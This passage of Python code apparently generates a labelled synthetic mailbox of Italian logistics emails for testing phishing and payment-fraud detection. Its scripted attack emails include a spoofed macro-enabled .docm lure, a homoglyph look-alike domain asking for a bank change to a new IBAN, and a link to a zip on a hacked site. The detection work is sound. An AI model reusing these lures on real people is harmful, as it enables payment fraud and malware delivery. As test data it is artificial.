            raw = data if isinstance(data, bytes) else data.encode("utf-8")
            body += [f"--{mb}", f'Content-Type: {ctype}; name="{name}"', f'Content-Description: {name}' if client in ("exch19", "o365", "hotmail") else None,
                     f'Content-Disposition: attachment; filename="{name}"' + (f'; size={len(raw)};\n\tcreation-date="{date_hdr("x", t)}";\n\tmodification-date="{date_hdr("x", t)}"' if client in ("exch19", "o365") else ""),
                     "Content-Transfer-Encoding: base64", "", base64.encodebytes(raw).decode().rstrip("\n")]
            body = [x for x in body if x is not None]
        body += [f"--{mb}--"]
    else: body = alt
    hdr_lines = []
    for k, v in h:
        hdr_lines.append(f"{k}: {v}".replace("\r\n", "\n"))
    raw = "\n".join(hdr_lines) + "\n" + "\n".join(body) + "\n"
    raw = raw.replace("\r\n", "\n").replace("\n", "\r\n")
    return m, raw, folder


def emit(who, client, t, to, cc, subj, refs, plain, label=None, scen=None, **kw):
    m, raw, folder = build(who, client, t, to, cc, subj, refs, plain, **kw)
    pending.append((t.astimezone(UTC), folder, raw, (m, label[0], label[1]) if label else None, scen))
    return m


G = ("genuine", "genuine-reply"); GH = ("genuine", "genuine-hard"); GO = ("genuine", "genuine-orphan")
HJ = lambda k: ("hijack", k)


class Thread:
    n = 0

    def __init__(s, partner, subj, lang, tid):
        s.p, s.subj, s.lang, s.tid = partner, subj, lang, tid
        s.refs, s.last, s.blocks, s.recs = [], None, [], []
        s.tbase = b"\x01" + rbytes(21)
        s.k = 0

    def add(s, who, text, t, label=None, scen=None, client=None, to=None, cc=None, sig=True, quote=True, subj=None, q=None, refs=None,
            keep=True, qtext=None, **kw):
        client = client or who.client
        sigtxt = (my_sig(s.lang) if who is me else who.sig) if sig is True else (sig or "")
        plain = text + sigtxt
        qrec = q or s.last
        if quote and qrec:
            if who.trim and who not in ME_IDS: qrec = dict(qrec, plain=qrec["own"])
            qb = quote_of(who, client, qrec, kw.get("ui"), kw["date_t"].tzinfo if kw.get("date_t") else None)
            if qtext: qb = qtext(qb)
            plain += qb
        if subj is None:
            subj = s.subj if not s.refs else rpfx(client, kw.get("ui") or who.ui) + s.subj
        if to is None: to = [(s.p.name, s.p.email)] if who in ME_IDS else [(me.name, me.email)]
        r = list(refs if refs is not None else s.refs)
        while len(s.blocks) < len(r): s.blocks.append(rbytes(5))
        if "tidx" not in kw: kw["tidx"] = base64.b64encode(s.tbase + b"".join(s.blocks[:len(r)])).decode()
        if label and scen is None:
            s.k += 1; scen = (f"{s.tid}-r{s.k}", f"{s.tid}: plain in-thread reply from {who.name} ({client})")
        m = emit(who, client, t, to, cc, subj, r, plain, label=label, scen=scen, topic=s.subj, **kw)
        rec = dict(t=t, name=who.name, email=who.email, plain=text + sigtxt + (qb if quote and qrec else ""), own=text + sigtxt, subj=subj, to=to,
                   cc=cc or [], mid=m)
        if keep:
            s.refs.append(m); s.last = rec
        s.recs.append(rec)
        return m


for _p in (moreau, giorgia, girard, gatti, pace): _p.trim = True

# ------------------------------------------------------------------ attacker-side identities and infrastructure
IDN = "xn--doganebellni-bpk.example"  # "doganebellіni" with a Cyrillic і (U+0456), IDNA-encoded
TENANT[IDN] = ("DB9PR08MB7412", "eurprd08", "e4f1a2b3-c4d5-4e6f-8a9b-0c1d2e3f4a5b", "mail-db9eur08on2090.outbound.protection.outlook.com", "40.107.20.90")
INFRA["exo-idn"] = (TENANT[IDN][3], TENANT[IDN][4], IDN, "selector1")
LOOK.update({"look-dubois": ("mail.transports-dubois.test", "185.244.25.16", "transports-dubois.test", "default"),
             "look-anvers": ("mail.anvers-maritimes.example", "91.215.85.140", "anvers-maritimes.example", "mail"),
             "look-santos": ("mail.santos-cargo.example", "193.233.20.61", "santos-cargo.example", "default"),
             "look-nordovest": ("mail.nordovest-forniture.example", "5.181.156.90", "nordovest-forniture.example", "default")})
LOOKSRC.update({"look-dubois": "41.216.188.37", "look-anvers": "105.112.33.12", "look-santos": "179.43.147.2", "look-nordovest": "45.142.212.9"})
for k, v in LOOK.items(): INFRA[k] = v

sp_bellini = Pt("Marco Bellini", "marco.bellini.dogane@libero.it", "libero", "it", "libero")
sp_peeters = Pt("Nathalie Peeters", "nathalie.peeters.anvers@hotmail.fr", "hotmail", "fr", "hotmail", tz=BRU)
lk_dubois = Pt("Sophie Martin", "s.martin@transports-dubois.test", "ol16", "fr", "look-dubois", sophie.sig, PAR)
lk_anvers = Pt("Nathalie Peeters", "n.peeters@anvers-maritimes.example", "roundcube", "fr", "look-anvers", peeters.sig, BRU)
lk_santos = Pt("Rafael Souza", "rafael.souza@santos-cargo.example", "ol16", "pt", "look-santos", souza.sig, SAO)
lk_bellini = Pt("Chiara Russo", f"c.russo@{IDN}", "o365", "it", "exo-idn", russo.sig)
nordovest = Pt("Ufficio Amministrazione - Nordovest Forniture Industriali", "amministrazione@nordovest-forniture.example", "ol16", "it", "look-nordovest")
TZ3 = datetime.timezone(datetime.timedelta(hours=3)); TZ1 = datetime.timezone(datetime.timedelta(hours=1))
HACKED = "https://www.agriturismo-lecolline.example/wp-content/uploads/2025/02/"


def wt(): return f"https://we.tl/t-{alnum(10)}"


# ================================================================ T1 Bellini / Russo (M365, Italian): export declaration; broker leaves; inline red
t1 = Thread(bellini, "Export Ceramiche Apuane – dichiarazione EX cont. MSKU 482913-7", "it", "T1")
t1.add(me, "Buongiorno Marco,\n\nti giro i documenti per l'export di Ceramiche Apuane in partenza con Medlink il 24/01 (MDL Aurora, viaggio 504E, "
       "destinazione Veracruz):\n- fattura 118/2025 del 17/01, resa EXW Massa, 42.860,00 EUR\n- packing list: 20 pallet, lordo 21.480 kg, netto 20.150 kg\n"
       "- container MSKU 482913-7, sigillo 0047812\n\nIl pieno entra al SECH domani mattina. Riesci a presentare la dichiarazione entro mercoledì?",
       at(2025, 1, 20, 9, 41), atts=[att("Fattura_118-2025_Ceramiche_Apuane.pdf", pdf(["Ceramiche Apuane S.p.A.", "Fattura n. 118/2025 del 17/01/2025",
                                      "Piastrelle gres porcellanato 60x120 - 2.412 m2", "Totale EXW Massa EUR 42.860,00"])),
                                     att("PL_118-2025.pdf", pdf(["Packing list fattura 118/2025", "20 pallet - lordo 21.480 kg - netto 20.150 kg"]))])
t1.add(bellini, "Ciao Giulia,\n\nricevuto tutto. Solo una cosa: in fattura il codice delle piastrelle è 6907 22, ma dalla scheda tecnica l'assorbimento "
       "d'acqua è sotto lo 0,5 %, quindi la voce giusta è 6907 21 00. Me lo fai confermare dal cliente? Il resto è a posto, intanto preparo la bozza.",
       at(2025, 1, 20, 11, 7), G)
t1.add(me, "Ciao Marco,\n\nhai ragione, ho sentito l'ufficio tecnico di Ceramiche Apuane: gres porcellanato con assorbimento 0,1 %. Quindi 6907 21 00; "
       "correggono anche la fattura e ti mando la versione nuova appena arriva.", at(2025, 1, 20, 14, 25))
t1.add(bellini, "Giulia,\n\ndichiarazione presentata stamattina, MRN 25IT26100E0041873, canale verde. Ti allego il DAE. Dal sistema del terminal il "
       "container risulta già imbarcabile.", at(2025, 1, 21, 10, 12), G,
       atts=[att("DAE_25IT26100E0041873.pdf", pdf(["Documento di accompagnamento esportazione", "MRN 25IT26100E0041873", "Esportatore: Ceramiche Apuane S.p.A."],
                                                 producer="AIDA - Agenzia Dogane e Monopoli"))])
t1.add(me, "Perfetto, grazie mille. La settimana prossima dovrebbe esserci un secondo container per lo stesso cliente, ti avviso appena ho i dati.",
       at(2025, 1, 21, 10, 48))
t1.add(bellini, "Giulia,\n\nti scrivo anche per un'altra cosa: dal 1° febbraio lascio lo studio, mi trasferisco a Livorno per motivi familiari. "
       "Le vostre pratiche le seguirà Chiara Russo, che metto in copia: lavora con me da quattro anni e conosce bene Ceramiche Apuane. "
       "Da quella data scrivete direttamente a lei, il numero fisso resta lo stesso.\n\nÈ stato un piacere lavorare con te!",
       at(2025, 1, 22, 16, 31), G, cc=[(russo.name, russo.email)])
t1.add(me, "Caro Marco,\n\nche notizia! Ci mancherai, grazie di tutto e in bocca al lupo per Livorno.\nBenvenuta Chiara, ci sentiamo presto per il "
       "secondo container.", at(2025, 1, 23, 9, 17), cc=[(russo.name, russo.email)])
t1.add(sp_bellini, "Giulia buongiorno,\n\nprima di lasciare lo studio sto chiudendo le note spese aperte: sulla pratica di Ceramiche Apuane c'è un "
       "conguaglio sui diritti che non vi era stato addebitato. Ti allego il prospetto, è un file Word: se ti chiede di abilitare il contenuto "
       "fallo pure, altrimenti le tabelle non si vedono.\n\nMarco", at(2025, 1, 24, 8, 3), HJ("display-name-spoof"),
       ("A15", "T1: display-name spoof 'Marco Bellini' from a libero.it freemail address, .docm 'conguaglio' asking to enable content"),
       sig=False, keep=False,
       atts=[att("Conguaglio_diritti_25IT26100E0041873.docm", ooxml("d", macro=True, text="Conguaglio diritti doganali - pratica 25IT26100E0041873"))])
t1.add(russo, "Buongiorno Giulia,\n\ncome anticipato da Marco, da questa settimana seguo io le vostre pratiche export. Per il secondo container di "
       "Ceramiche Apuane mi servirebbero fattura, packing list e numero di booking; se la voce doganale è sempre la 6907 21 00 riprendo i dati "
       "della dichiarazione precedente.\n\nBuon lavoro", at(2025, 2, 4, 9, 5), GH,
       ("G6", "T1: the departing broker's colleague (same M365 tenant, announced in the thread) takes over the file"))
q9 = ("Buongiorno Chiara,\n\nbenvenuta e grazie! Ti mando i documenti. Un paio di domande:\n"
      "1) questa volta il cliente vuole la prova di uscita appena disponibile, riesci a mandarmela tu?\n"
      "2) il booking è MDLGOA2502066, nave MDL Castoro, ETD 07/02: la cut-off doganale di Medlink è giovedì alle 12, ci stiamo?\n"
      "3) il peso lordo sale a 21.960 kg: va indicata anche la tara del container?")
t1.add(me, q9, at(2025, 2, 4, 11, 20), to=[(russo.name, russo.email)],
       atts=[att("Fattura_131-2025_Ceramiche_Apuane.pdf", pdf(["Ceramiche Apuane S.p.A.", "Fattura n. 131/2025", "Totale EXW Massa EUR 44.120,00"]))])
ans = ["Sì, appena il terminal chiude l'uscita te la inoltro io dal sistema AIDA.",
       "Sì, se mi mandi tutto entro mercoledì sera.",
       "No, in dichiarazione va solo la massa lorda della merce; la tara serve per la VGM, che però comunica Medlink."]
qrec = t1.last
red_plain_q = quote_of(russo, "o365", qrec)
lines = red_plain_q.split("\n"); out = []
for l in lines:
    out.append(l)
    for i, a in enumerate(ans, 1):
        if l.startswith(f"{i}) "): out.append(">> " + a)
inline_plain = "Buongiorno Giulia,\n\nvedi sotto in rosso.\n\nChiara" + "\n".join(out)
hq = []
for l in red_plain_q.split("\n"):
    hq.append(H.escape(l))
    for i, a in enumerate(ans, 1):
        if l.startswith(f"{i}) "): hq.append(f'<span style="color:rgb(255,0,0)"><b>{H.escape(a)}</b></span>')
inline_html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body dir="ltr">'
               '<div class="elementToProof" style="font-family: Aptos, Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, Helvetica, sans-serif; font-size: 12pt;">'
               'Buongiorno Giulia,<br><br>vedi sotto in rosso.<br><br>Chiara</div><div id="appendonsend"></div><hr style="display:inline-block;width:98%" tabindex="-1">'
               '<div id="divRplyFwdMsg" dir="ltr">' + "<br>\n".join(hq) + "</div></body></html>")
t1.add(russo, inline_plain, at(2025, 2, 4, 15, 42), GH, ("G17", "T1: inline-edited reply 'vedi sotto in rosso': answers in red inside the quoted questions (HTML)"),
       sig=False, quote=False, html=inline_html)
t1.add(me, "Perfetto Chiara, tutto chiaro. Ti mando entro stasera i documenti definitivi.", at(2025, 2, 5, 8, 50), to=[(russo.name, russo.email)])
t1.add(russo, "Giulia, dichiarazione presentata: MRN 25IT26100E0052218. Ti giro la prova di uscita appena il terminal la chiude.",
       at(2025, 2, 6, 17, 10), G)

# ================================================================ T2 Bellini: duties advanced, auto-reply, IDN look-alike payment diversion
t2 = Thread(bellini, "Nota spese 25/0019 – sdoganamento campioni dal Brasile", "it", "T2")
t2.add(bellini, "Ciao Giulia,\n\nti allego la nota spese n. 25/0019 per lo sdoganamento dei campioni arrivati dal Brasile per conto vostro (bolletta "
       "IM 25IT26100I0003310): dazi 412,80 EUR, IVA 1.343,40 EUR, nostre competenze 90,00 EUR, totale 1.846,20 EUR.\n"
       "Coordinate come sempre: Banca Passadore, IBAN IT45 R033 3201 4000 0000 0812 455.", at(2025, 1, 13, 12, 30),
       atts=[att("Nota_spese_25-0019.pdf", pdf(["Studio Doganale Bellini & C.", "Nota spese n. 25/0019", "Totale EUR 1.846,20",
                                                "IBAN IT45R0333201400000000812455"]))])
t2.add(me, "Ciao Marco, grazie. La passo all'amministrazione per il pagamento, come al solito a 30 giorni data nota.", at(2025, 1, 13, 15, 2))
t2.add(me, "Marco, scusa, ancora una cosa: l'IVA all'importazione dobbiamo riaddebitarla al cliente brasiliano o la portiamo in detrazione noi? "
       "Nella nota non trovo l'indicazione.", at(2025, 1, 17, 10, 5), quote=True)
t2.add(bellini, "Sono fuori ufficio fino a lunedì 20 gennaio compreso, con accesso limitato alla posta.\nPer pratiche urgenti potete rivolgervi alla "
       "collega Chiara Russo (c.russo@doganebellini.example) o chiamare lo 010 555 6610.\n\nMarco Bellini\nStudio Doganale Bellini & C.",
       at(2025, 1, 17, 10, 5), GH, ("G5", "T2: Outlook 'Risposta automatica' out-of-office of the broker (Auto-Submitted: auto-replied)"),
       sig=False, quote=False, keep=False, subj="Risposta automatica: R: Nota spese 25/0019 – sdoganamento campioni dal Brasile",
       extra=[("Auto-Submitted", "auto-replied"), ("X-Auto-Response-Suppress", "All"), ("X-MS-Exchange-Inbox-Rules-Loop", bellini.email)])
t2.add(bellini, "Ciao Giulia,\n\nrientrato ora. L'IVA all'importazione l'ha anticipata lo studio per conto vostro e la bolletta è intestata a Lanterna, "
       "quindi la detraete voi; al cliente non va riaddebitata. Se serve ti mando la bolletta in PDF.", at(2025, 1, 20, 9, 12), G)
t2.add(me, "Chiarissimo, grazie. Sì, mandamela pure per l'amministrazione.", at(2025, 1, 20, 9, 40))
t2.add(bellini, "Eccola.", at(2025, 1, 20, 10, 2), G,
       atts=[att("Bolletta_IM_25IT26100I0003310.pdf", pdf(["Dichiarazione doganale di importazione", "MRN 25IT26100I0003310", "Destinatario: Lanterna Spedizioni"],
                                                          producer="AIDA - Agenzia Dogane e Monopoli"))])
t2.add(me, "Ciao Chiara (e Marco in copia, se legge ancora questa casella),\n\nil bonifico della nota spese 25/0019 è stato disposto oggi con valuta 12/02.",
       at(2025, 2, 10, 11, 15), to=[(russo.name, russo.email)], cc=[(bellini.name, bellini.email)])
t2.add(lk_bellini, "Gentile Giulia,\n\nla contatto dall'amministrazione dello studio su indicazione di Chiara. Per un disguido con la banca il conto presso "
       "Banca Passadore è in chiusura e i bonifici in arrivo vengono respinti. Se il pagamento della nota 25/0019 non è ancora partito, la prego di "
       "bloccarlo e di disporlo sul nostro conto d'appoggio presso Commerzbank a Monaco, che usiamo per l'operatività con gli spedizionieri tedeschi:\n"
       "IBAN DE27 7004 0041 0662 9954 00 - BIC COBADEFFXXX\nIntestatario: Studio Doganale Bellini & C.\n"
       "Se invece è già partito ci avvisi, provvediamo noi al richiamo. Per fare prima risponda pure a questa mail lasciando in copia l'amministrazione.\n\n"
       "Cordiali saluti\nChiara Russo", at(2025, 2, 11, 16, 48), HJ("lookalike-domain"),
       ("A10", "T2: IDN homoglyph look-alike of the broker's domain (Cyrillic i, punycode) on an M365 tenant, redirect payment to a German IBAN, new Cc"),
       sig="\n\nStudio Doganale Bellini & C. s.a.s.\nVia Albertazzi 3r, 16149 Genova\nTel. 010 555 6614", keep=False,
       cc=[("Amministrazione Studio Bellini", f"amministrazione@{IDN}")])

# ================================================================ T3 Rossi (Aruba webmail): trucking; early reply; A1 server hijack
t3 = Thread(rossi, "Trasporto Biella > Genova SECH - cont. TGHU 771204-3 / DDT 1187", "it", "T3")
t3.add(me, "Buongiorno Paolo,\n\nvi confermo il trasporto per Tessitura Conti:\n- ritiro vuoto 40' HC TGHU 771204-3 al terminal SECH da lunedì pomeriggio "
       "(booking MDLGOA2501987)\n- carico a Biella, via Trossi 41, mercoledì 29/01 alle 8:00 (rampa 3, chiedere di Stefano Conti)\n"
       "- resa del pieno al SECH entro venerdì 31/01 ore 12, cut-off nave.\nTariffa da accordo quadro, 780 EUR più l'eventuale sosta oltre le 2 ore di franchigia.",
       at(2025, 1, 27, 8, 32))
t3.add(rossi, "Buongiorno Giulia,\n\nricevuto, il vuoto lo prendiamo oggi pomeriggio: autista Bruno con il Volvo targato FX 512 PL. Mercoledì partiamo "
       "da La Spezia alle 4, così alle 8 siamo a Biella.\n\nSaluti", at(2025, 1, 28, 5, 52), GH,
       ("G24", "T3: trucker answering at 05:52 from his usual Aruba webmail"))
t3.add(me, "Perfetto, grazie. Avviso io la tessitura.", at(2025, 1, 28, 9, 5))
t3.add(rossi, "Caricato: 18 colli, peso dichiarato dal mittente 9.840 kg. Sigillo n. 0051924 messo alle 11:20. Vi allego la foto del DDT firmato, domani "
       "mattina lo portiamo in terminal.", at(2025, 1, 29, 17, 44), G, atts=[att("DDT_1187_firmato.jpg", jpg(4000))])
t3.add(me, "Grazie Paolo. A Biella avete avuto attese? La tessitura mi dice che avete iniziato a caricare dopo le 10.", at(2025, 1, 30, 10, 10))
t3.add(rossi, "Sì, siamo rimasti fermi due ore e mezza perché il loro carrello era guasto. È mezz'ora oltre la franchigia, la metto in fattura a "
       "parte: 25 euro.", at(2025, 1, 30, 12, 31), G)
t3.add(me, "Va bene, nessun problema, mettetela pure.", at(2025, 1, 30, 12, 50))
t3.add(rossi, "Buongiorno,\n\nle mando la documentazione aggiornata del DDT 1187 con il conteggio della sosta di Biella, da controllare prima che emettiamo "
       "la fattura:\n\n" + HACKED + "DDT_1187_sosta_Biella.zip\n\nResto in attesa.\n\nSaluti\nPaolo", at(2025, 2, 18, 10, 21), HJ("server-hijack"),
       ("A1", "T3: server hijack through the trucker's real Aruba webmail path/headers, short Italian text on DDT 1187, link to a zip on a hacked WordPress site"),
       sig=False, keep=False)

# ================================================================ T4 Rossi: bank change by letter, confirmed by Giulia, invoice with new IBAN
t4 = Thread(rossi, "Comunicazione variazione coordinate bancarie - Autotrasporti Rossi s.n.c.", "it", "T4")
t4.add(rossi, "Spett.le Lanterna Spedizioni,\n\nvi anticipiamo via mail la comunicazione spedita con raccomandata A/R il 21/02: dal 1° marzo 2025 il nostro "
       "conto presso BPER Banca (ex Carige) viene chiuso e i pagamenti andranno effettuati sul nuovo conto presso Crédit Agricole Italia, filiale "
       "di La Spezia, IBAN IT60 X062 3010 7010 0004 7612 301.\nLa lettera allegata è firmata dal legale rappresentante. Per qualsiasi verifica potete "
       "chiamare la sig.ra Marisa in amministrazione allo 0187 555 912.", at(2025, 2, 24, 11, 5),
       atts=[att("Lettera_variazione_IBAN_Autotrasporti_Rossi.pdf", pdf(["Autotrasporti Rossi s.n.c.", "La Spezia, 21 febbraio 2025",
                                                                         "Oggetto: variazione coordinate bancarie", "Nuovo IBAN: IT60X0623010701000047612301",
                                                                         "Il legale rappresentante - Paolo Rossi"], producer="Canon iR-ADV C3826 PDF"))])
t4.add(me, "Buongiorno Paolo,\n\nabbiamo ricevuto ieri anche la raccomandata. Come da nostra procedura interna ho chiamato il vostro ufficio al numero "
       "che abbiamo in anagrafica (0187 555 912) e la sig.ra Marisa mi ha confermato a voce il nuovo IBAN, cifra per cifra. Ho aggiornato "
       "l'anagrafica fornitori: dalle fatture di febbraio in poi paghiamo sul conto Crédit Agricole.", at(2025, 2, 25, 10, 40))
t4.add(rossi, "Grazie Giulia, gentilissima.", at(2025, 2, 25, 11, 2), G)
t4.add(rossi, "Buongiorno,\n\nvi alleghiamo la fattura n. 74/2025 per i trasporti di febbraio (6 viaggi porto di Genova, totale 5.212,40 EUR IVA "
       "inclusa). Pagamento sul nuovo conto Crédit Agricole IT60 X062 3010 7010 0004 7612 301, come da nostra comunicazione.\n\nSaluti",
       at(2025, 3, 5, 9, 30), GH, ("G15", "T4: invoice paid to the NEW IBAN, announced by letter and confirmed (phone check) by Giulia herself in the thread"),
       atts=[att("Fattura_74-2025_Autotrasporti_Rossi.pdf", pdf(["Autotrasporti Rossi s.n.c.", "Fattura n. 74/2025", "Totale EUR 5.212,40",
                                                                 "IBAN IT60X0623010701000047612301"]))])
t4.add(me, "Ricevuta, grazie. Scadenza 31/03 come sempre.", at(2025, 3, 5, 11, 20))

# ================================================================ T5 Ceramiche Apuane via PEC: envelopes, receipts
PEC_PROV = {"aruba": ("posta-certificata@pec.aruba.it", "ARUBA PEC S.p.A.", "pec.aruba.it", "pec-aruba"),
            "legalmail": ("posta-certificata@legalmail.it", "InfoCert S.p.A.", "legalmail.it", "pec-legalmail")}


def opec(prov, t): return f"<opec{R.randint(210, 299)}{R.randint(10, 99)}.{t.astimezone(ROM):%Y%m%d%H%M%S}.{R.randint(10000, 99999)}.{R.randint(100, 999)}.1.{R.randint(40, 70)}@{PEC_PROV[prov][2]}>"


def qp(text, cs="iso-8859-1"): return quopri.encodestring(text.encode(cs)).decode("ascii")


def pec_message(kind, prov, t, subj, sender, dest, ref_mid, ident, inner_raw=None, label=None, scen=None):
    """kind: posta-certificata (transport envelope with postacert.eml), accettazione, avvenuta-consegna (completa, with postacert.eml)"""
    frm_addr, gestore, pdom, infra = PEC_PROV[prov]
    tl = t.astimezone(ROM)
    zone = tl.strftime("%z")
    if kind == "posta-certificata":
        subj_out = "POSTA CERTIFICATA: " + subj
        text = (f"--Questo è un Messaggio di Posta Certificata--\n\nIl giorno {tl:%d/%m/%Y} alle ore {tl:%H:%M:%S} ({zone}) il messaggio\n\"{subj}\" è stato inviato da "
                f"\"{sender}\"\nindirizzato a:\n{dest}\nIl messaggio originale è incluso in allegato.\nIdentificativo messaggio: {ident[1:-1]}\n")
        hdr = [("From", f'"Per conto di: {sender}" <{frm_addr}>'), ("Reply-To", sender), ("To", dest)]
        x = [("X-Riferimento-Message-ID", ref_mid), ("X-Trasporto", "posta-certificata")]
        tipo = "posta-certificata"
    elif kind == "accettazione":
        subj_out = "ACCETTAZIONE: " + subj
        text = (f"Ricevuta di accettazione\n\nIl giorno {tl:%d/%m/%Y} alle ore {tl:%H:%M:%S} ({zone}) il messaggio\n\"{subj}\" proveniente da \"{sender}\"\n"
                f"ed indirizzato a:\n{dest} (\"posta certificata\")\nè stato accettato dal sistema ed inoltrato.\nIdentificativo messaggio: {ident[1:-1]}\n")
        hdr = [("From", frm_addr), ("To", sender)]
        x = [("X-Ricevuta", "accettazione"), ("X-Riferimento-Message-ID", ref_mid)]
        tipo = "accettazione"
    else:
        subj_out = "CONSEGNA: " + subj
        text = (f"Ricevuta di avvenuta consegna\n\nIl giorno {tl:%d/%m/%Y} alle ore {tl:%H:%M:%S} ({zone}) il messaggio\n\"{subj}\" proveniente da \"{sender}\"\n"
                f"ed indirizzato a \"{dest}\"\nè stato consegnato nella casella di destinazione.\nIdentificativo messaggio: {ident[1:-1]}\n")
        hdr = [("From", frm_addr), ("To", sender)]
        x = [("X-Ricevuta", "avvenuta-consegna"), ("X-TipoRicevuta", "completa"), ("X-Riferimento-Message-ID", ref_mid)]
        tipo = "avvenuta-consegna"
    own_id = ident if kind == "posta-certificata" else opec(prov, t)
    dc = (f'<?xml version="1.0" encoding="UTF-8"?>\n<postacert tipo="{tipo}" errore="nessuno">\n  <intestazione>\n    <mittente>{sender}</mittente>\n'
          f'    <destinatari tipo="certificato">{dest}</destinatari>\n    <risposte>{sender}</risposte>\n    <oggetto>{H.escape(subj)}</oggetto>\n  </intestazione>\n'
          f'  <dati>\n    <gestore-emittente>{gestore}</gestore-emittente>\n    <data zona="{zone}">\n      <giorno>{tl:%d/%m/%Y}</giorno>\n      <ora>{tl:%H:%M:%S}</ora>\n'
          f'    </data>\n    <identificativo>{ident[1:-1]}</identificativo>\n    <msgid>{H.escape(ref_mid)}</msgid>\n'
          + ('    <ricevuta tipo="completa" />\n    <consegna>' + dest + '</consegna>\n' if kind == "avvenuta-consegna" else "")
          + '  </dati>\n</postacert>\n')
    htm = "<html><head><title>" + H.escape(subj_out.split(":")[0]) + "</title></head><body><p>" + "<br>".join(H.escape(l) for l in text.split("\n")) + "</p></body></html>"
    b1, b2, b3 = f"----{HX(32)}", f"----{HX(32)}", f"----{HX(32)}"
    body = [f'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg="sha-256"; boundary="{b1}"', "",
            "This is an S/MIME signed message", "", f"--{b1}", f'Content-Type: multipart/mixed; boundary="{b2}"', "", f"--{b2}",
            f'Content-Type: multipart/alternative; boundary="{b3}"', "", f"--{b3}", 'Content-Type: text/plain; charset="iso-8859-1"',
            "Content-Transfer-Encoding: quoted-printable", "", qp(text), f"--{b3}", 'Content-Type: text/html; charset="iso-8859-1"',
            "Content-Transfer-Encoding: quoted-printable", "", qp(htm), f"--{b3}--", "", f"--{b2}", 'Content-Type: application/xml; name="daticert.xml"',
            "Content-Transfer-Encoding: base64", 'Content-Disposition: inline; filename="daticert.xml"', "", base64.encodebytes(dc.encode()).decode().rstrip("\n")]
    if inner_raw:
        body += [f"--{b2}", 'Content-Type: message/rfc822; name="postacert.eml"', 'Content-Disposition: inline; filename="postacert.eml"', "", inner_raw.rstrip("\r\n")]
    body += [f"--{b2}--", "", f"--{b1}", 'Content-Type: application/pkcs7-signature; name="smime.p7s"', "Content-Transfer-Encoding: base64",
             'Content-Disposition: attachment; filename="smime.p7s"', "", base64.encodebytes(b"\x30\x82" + rbytes(2200)).decode().rstrip("\n"), f"--{b1}--"]
    h = transport(mepec, t, env=frm_addr, infra=infra) + hdr + [("Subject", ew(subj_out, "UTF-8", "B")), ("Date", t.strftime("%a, %d %b %Y %H:%M:%S %z")),
                                                               ("Message-ID", own_id)] + x + [("MIME-Version", "1.0")]
    raw = "\n".join(f"{k}: {v}" for k, v in h) + "\n" + "\n".join(body) + "\n"
    raw = raw.replace("\r\n", "\n").replace("\n", "\r\n")
    pending.append((t.astimezone(UTC), "INBOX", raw, (own_id, label[0], label[1]) if label else None, scen))
    return own_id


def pec_note_quote(replier_client, env_from, to_addr, t, subj_out, note):
    """what Outlook quotes when one replies to a PEC envelope: the certified-mail notice, not the original"""
    tl = t.astimezone(ROM)
    return (f"\n\nDa: Per conto di: {env_from[0]} [mailto:{env_from[1]}]\nInviato: {outlook_date('it', tl)}\nA: {to_addr}\nOggetto: {subj_out}\n\n" + note)


APU = apuane_pec.email
S5 = "Contestazione addebito controstallie - fattura 25/0311 - cont. MSKU 482913-7"
# 1: the client's certified letter
t_a = at(2025, 3, 3, 10, 22)
m_in1, raw_in1, _ = build(apuane_pec, "ol16", t_a, [("", mepec.email)], None, S5, [], "Spett.le Lanterna Spedizioni Internazionali S.r.l.,\n\n"
                          "con la presente contestiamo formalmente l'addebito di cui alla Vostra fattura n. 25/0311 del 27/02/2025, pari a EUR 1.540,00 a "
                          "titolo di controstallie (detention) sul container MSKU 482913-7.\nIl ritardo nella riconsegna del container al terminal non è "
                          "imputabile alla scrivente: il vuoto ci è stato messo a disposizione l'08/01, con due giorni di ritardo rispetto alla data "
                          "concordata, riducendo di fatto il free time.\nVi chiediamo pertanto l'annullamento della fattura o, in subordine, il dettaglio "
                          "dei giorni conteggiati." + apuane_pec.sig, infra="own")
env1 = opec("aruba", t_a + datetime.timedelta(seconds=4))
pec_message("posta-certificata", "aruba", t_a + datetime.timedelta(seconds=4), S5, APU, mepec.email, m_in1, env1, raw_in1)
note1 = (f"--Questo è un Messaggio di Posta Certificata--\n\nIl giorno 03/03/2025 alle ore {t_a:%H:%M:%S} (+0100) il messaggio\n\"{S5}\" è stato inviato da "
         f"\"{APU}\"\nindirizzato a:\n{mepec.email}\nIl messaggio originale è incluso in allegato.\nIdentificativo messaggio: {env1[1:-1]}")
# 2: Giulia's certified answer (Outlook, PEC account), then the two receipts
t_b = at(2025, 3, 4, 15, 22)
s_b = "R: POSTA CERTIFICATA: " + S5
m_out1 = emit(mepec, "ol16", t_b, [("", APU)], None, s_b, [env1],
              "Spett.le Ceramiche Apuane S.p.A.,\n\nin riscontro alla Vostra PEC del 03/03/2025 precisiamo quanto segue.\nIl vuoto MSKU 482913-7 è stato "
              "ritirato al terminal SECH il 03/01 e messo a Vostra disposizione il 06/01, come risulta dall'EIR di uscita allegato. Il free time concesso "
              "dalla compagnia per l'export è di 7 giorni; il pieno è rientrato in terminal il 21/01 alle 17:40, con 11 giorni di detention a EUR 140,00 "
              "al giorno.\nRestiamo disponibili a un confronto telefonico per chiudere la questione in via amichevole.\n\nDistinti saluti\n\n" + ME_FOOT
              + pec_note_quote("ol16", (APU, "posta-certificata@pec.aruba.it"), mepec.email, t_a, "POSTA CERTIFICATA: " + S5, note1),
              atts=[att("EIR_uscita_MSKU4829137_03-01-2025.pdf", pdf(["SECH - Equipment Interchange Receipt", "MSKU 482913-7 - 40HC - OUT 03/01/2025 14:12"],
                                                                     producer="SECH TOS")),
                    att("Prospetto_detention_MSKU4829137.pdf", pdf(["Prospetto detention MSKU 482913-7", "Free time 7 gg - 11 gg x EUR 140,00 = EUR 1.540,00"]))])
l_id1 = opec("legalmail", t_b + datetime.timedelta(seconds=6))
pec_message("accettazione", "legalmail", t_b + datetime.timedelta(seconds=6), s_b, mepec.email, APU, m_out1, l_id1, None, GH,
            ("G3", "T5: PEC 'ACCETTAZIONE:' receipt (posta-certificata@legalmail.it) for Giulia's own certified reply"))
pec_message("avvenuta-consegna", "aruba", t_b + datetime.timedelta(seconds=19), s_b, mepec.email, APU, m_out1, l_id1,
            [p for p in pending if p[1] == "Sent" and m_out1 in p[2]][0][2], GH,
            ("G2", "T5: PEC 'CONSEGNA:' ricevuta di avvenuta consegna (completa, postacert.eml + daticert.xml) from posta-certificata@pec.aruba.it"))
